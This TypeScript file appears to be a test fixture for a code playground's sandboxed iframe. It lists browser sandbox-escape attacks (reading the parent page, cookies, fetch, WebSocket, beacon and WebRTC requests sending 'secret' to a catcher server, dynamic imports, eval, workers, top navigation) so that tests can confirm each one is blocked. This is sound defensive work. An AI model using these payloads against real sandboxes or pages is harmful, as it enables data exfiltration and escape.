/** Code that tries to escape from the sandbox. */
export interface Attack {
  readonly name: string;
  /**
   * The body of an async function. It calls `out(text)` if it has succeeded, or writes `[NAME]` to the console.
   * `catcher` is the address of a server that must not receive anything, and `udpPort` is one of its ports.
   */
  readonly code: string;
  /** The paths at which `code` reaches the catcher, one for each method. */
  readonly paths?: readonly string[];
  /** The datagram port that only this attack uses, so one datagram identifies it. */
  readonly udp?: 0 | 1 | 2;
  /** Whether it ends other attacks if it succeeds, so it can't be tried in a page without guards. */
  readonly leaves?: true;
}

const wait = 'await new Promise((resolve) => setTimeout(resolve, 250));';
const element = (name: string, members: string): string =>
  `document.body.append(Object.assign(document.createElement('${name}'), ${members})); ${wait}`;
const html = (text: string): string => `document.body.insertAdjacentHTML('beforeend', \`${text}\`); ${wait}`;
/** Inserts HTML and calls one of the new element's methods. */
const use = (text: string, how = 'click'): string =>
  `document.body.insertAdjacentHTML('beforeend', \`${text}\`); document.body.lastElementChild.${how}(); ${wait}`;
const peer = (constructor: string): string =>
  `const peer = new ${constructor}({ iceServers: [{ urls: 'stun:127.0.0.1:' + udpPort }] });
      peer.createDataChannel('secret'); await peer.setLocalDescription(await peer.createOffer()); ${wait}`;

/** Attacks on what's around the frame. */
const outward: readonly Attack[] = [
  { name: 'reads the page', code: 'out(parent.document.title)' },
  { name: 'writes into the page', code: "parent.document.body.dataset.attacked = '1'; out('written')" },
  {
    name: 'sets and reads cookies',
    code: `document.cookie = 'attack=1'; if (document.cookie.includes('attack')) out(document.cookie)`,
  },
  { name: 'uses localStorage', code: `localStorage.setItem('attack', '1'); out('set')` },
  {
    name: 'talks to pages by a broadcast channel',
    code: `new BroadcastChannel('attack').postMessage('1'); out('sent')`,
  },
];

/** Attacks that use the network. */
const network: readonly Attack[] = [
  { name: 'fetch', code: `await fetch(catcher + '/fetch?secret'); out('sent')` },
  {
    name: 'XMLHttpRequest',
    code: `const request = new XMLHttpRequest(); request.open('POST', catcher + '/xhr'); request.send('secret'); ${wait}`,
  },
  { name: 'WebSocket', code: `new WebSocket(catcher.replace('http', 'ws') + '/socket?secret'); ${wait}` },
  { name: 'EventSource', code: `new EventSource(catcher + '/events?secret'); ${wait}` },
  { name: 'beacon', code: `navigator.sendBeacon(catcher + '/beacon', 'secret'); ${wait}` },
  {
    // The catcher doesn't support HTTP/3, so the attack counts if the frame can create one at all.
    name: 'WebTransport',
    code: `new WebTransport(catcher.replace('http:', 'https:') + '/transport'); out('made')`,
  },
  { name: 'peer connection', udp: 0, code: peer('RTCPeerConnection') },
  {
    name: 'peer connection of a new empty frame',
    udp: 1,
    code: `const frame = document.createElement('iframe'); document.body.append(frame);
      ${peer('frame.contentWindow.RTCPeerConnection')}`,
  },
  {
    name: 'peer connection by its old name or from a prototype',
    udp: 2,
    code: peer('(window.webkitRTCPeerConnection ?? Object.getPrototypeOf(window).RTCPeerConnection)'),
  },
  {
    name: 'images and media',
    code: html(
      `<img src="\${catcher}/image?secret"><svg><image href="\${catcher}/svg"/></svg><video crossorigin src="\${catcher}/video" poster="\${catcher}/poster" autoplay muted><track default src="\${catcher}/track"></video>`,
    ),
    paths: ['image', 'svg', 'video', 'poster', 'track'],
  },
  {
    name: 'CSS: import, font face, and background',
    code: html(
      `<style>@import url("\${catcher}/import.css"); @font-face { font-family: A; src: url("\${catcher}/face"); } body { font-family: A; }</style><p style="background: url(\${catcher}/background)">a</p>`,
    ),
    paths: ['import.css', 'face', 'background'],
  },
  {
    name: 'links that load: style sheet, prefetch, preload, module',
    code: `for (const rel of ['stylesheet', 'prefetch', 'preload', 'modulepreload'])
      document.head.append(Object.assign(document.createElement('link'), { rel, as: 'script', href: catcher + '/' + rel + '.js' })); ${wait}`,
    paths: ['stylesheet.js', 'prefetch.js', 'preload.js', 'modulepreload.js'],
  },
];

/** Attacks that bring in other code. */
const scripts: readonly Attack[] = [
  { name: 'dynamic import of another site', code: `await import(catcher + '/module.mjs'); out('imported')` },
  {
    name: 'dynamic import of a data address',
    code: `await import('data:text/javascript,console.info("[NAME]")')`,
  },
  {
    name: 'module that nobody guards, by a blob address',
    code: `await import(URL.createObjectURL(new Blob(['console.info("[NAME]")'], { type: 'text/javascript' })))`,
  },
  { name: 'script element of another site', code: element('script', `{ src: catcher + '/script.js' }`) },
  { name: 'inline script', code: element('script', `{ textContent: 'console.info("[NAME]")' }`) },
  { name: 'eval', code: `(0, eval)('console.info("[NAME]")')` },
  {
    name: 'WebAssembly',
    code: `await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); out('compiled')`,
  },
  { name: 'javascript: address', code: `location.href = 'javascript:console.info("[NAME]")'; ${wait}` },
  {
    name: 'worker',
    code: `new Worker('data:text/javascript,postMessage(1)').onmessage = () => out('worker ran'); ${wait}`,
  },
  {
    name: 'shared worker',
    code: `const { port } = new SharedWorker('data:text/javascript,onconnect=(event)=>event.ports[0].postMessage(1)');
      port.onmessage = () => out('shared worker ran'); ${wait}`,
  },
  {
    name: 'service worker',
    code: `await navigator.serviceWorker.register('/runner/none.js').then(() => out('registered'), (error) => {
      if (/404|bad HTTP/.test(error.message)) out('asked for');
    })`,
  },
  {
    name: 'worklet',
    code: `await new AudioContext().audioWorklet.addModule(catcher + '/worklet.js'); out('added')`,
  },
  {
    // Nothing guards its code there, and every frame knows its own address.
    name: 'paint worklet of its own code',
    code: `const [own] = /blob:[^\\s)]+(?=:\\d+:\\d+)/.exec(new Error().stack);
      await CSS.paintWorklet.addModule(own); out('added')`,
  },
  { name: 'base address', code: `${html(`<base href="\${catcher}/">`)} new Image().src = 'based'; ${wait}` },
];

/** Attacks that open frames and windows, or reach the reader. */
const frames: readonly Attack[] = [
  { name: 'frame of another site', code: html(`<iframe src="\${catcher}/frame"></iframe>`) },
  {
    name: 'frame with its own document',
    code: html(`<iframe srcdoc="<img src='\${catcher}/srcdoc'>"></iframe>`),
  },
  {
    name: 'object and embed',
    code: html(`<object data="\${catcher}/object"></object><embed src="\${catcher}/embed">`),
    paths: ['object', 'embed'],
  },
  { name: 'takes the top page along', leaves: true, code: `top.location.href = catcher + '/top'; ${wait}` },
  { name: 'goes back in the history of the page', leaves: true, code: `history.back(); ${wait}` },
  { name: 'opens a window', code: `if (window.open(catcher + '/window')) out('opened'); ${wait}` },
  {
    name: 'opens a window by a link',
    code: use(`<a href="\${catcher}/blank" target="_blank" rel="opener">a</a>`),
  },
  {
    name: 'sends a form',
    leaves: true,
    code: use(`<form action="\${catcher}/send"><input name="secret" value="1"></form>`, 'requestSubmit'),
  },
  {
    name: 'saves a file on the disk',
    code: use(`<a href="data:text/plain,attack" download="attack.txt">a</a>`),
  },
  {
    name: 'asks the reader by a dialog',
    code: `alert('attack'); confirm('attack'); prompt('attack'); out('asked')`,
  },
  {
    // The page also removes a frame that has the focus: playground-misbehavior.spec.ts tests that.
    name: 'takes the focus',
    leaves: true,
    code: `${html('<input autofocus required><dialog><input></dialog>')} focus(); document.querySelector('input').focus?.();
      document.querySelector('input').reportValidity(); document.querySelector('dialog').showModal(); ${wait}
      if (document.hasFocus()) out('focused')`,
  },
];

/** Attacks that show their success themselves: with `out`, at the catcher, or on the page. */
export const ATTACKS = [...outward, ...network, ...scripts, ...frames];

/** The attack's own path at the catcher, with slashes around it. */
export const folderOf = (attack: Attack): string => `/${ATTACKS.indexOf(attack)}/`;

/** What the frame writes to the console about an attack. */
export const sign = ({ name }: Attack, what: 'out' | 'ends'): string => `attack ${what} [${name}]`;

/** Returns code for the actions tab that runs all attacks at the same time. */
export function attackText(attacks: readonly Attack[], catcher: string, udpPorts: readonly number[]): string {
  const calls = attacks.map((attack) => {
    const address = JSON.stringify(catcher + folderOf(attack).slice(0, -1));
    const code = attack.code.replaceAll('[NAME]', sign(attack, 'out'));
    return `  run(${JSON.stringify(attack.name)}, ${address}, ${udpPorts[attack.udp ?? 0]}, async (out, catcher, udpPort) => { ${code} });`;
  });
  return `const run = (name, catcher, udpPort, attack) => {
  const end = (error) => console.info('attack ends [' + name + ']', String(error));
  attack((text) => console.info('attack out [' + name + ']', text), catcher, udpPort).then(end, end);
};
export const actions = () => {
${calls.join('\n')}
  return {};
};
`;
}
